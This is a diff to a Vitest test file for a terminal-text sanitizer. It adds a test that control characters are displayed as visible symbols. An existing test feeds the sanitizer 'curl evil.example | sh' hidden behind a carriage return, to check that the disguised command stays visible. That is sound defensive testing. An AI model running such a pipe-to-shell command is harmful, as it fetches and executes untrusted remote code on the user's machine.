@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { cleanLine, cleanText } from "./sanitize.js";
+import { cleanLine, cleanText, showControls } from "./sanitize.js";
 
 /** Any ESC, C1 control or other C0 control (tab and newline aside) left in the text. */
 // eslint-disable-next-line no-control-regex
@@ -55,5 +55,15 @@ describe("cleanLine", () => {
     const shown = cleanLine("curl evil.example | sh\rls -la");
     expect(shown).toContain("curl evil.example | sh");
     expect(shown).toContain("ls -la");
+  });
+});
+
+describe("showControls", () => {
+  it("shows each control character as one symbol in its place", () => {
+    const text = "a\x1b[2J\x07\x7f\x9bz";
+    const shown = showControls(text);
+    expect(shown).toBe("a␛[2J␇␡�z");
+    expect(Array.from(shown)).toHaveLength(Array.from(text).length);
+    expect(shown).not.toMatch(ANY_CONTROL);
   });
 });
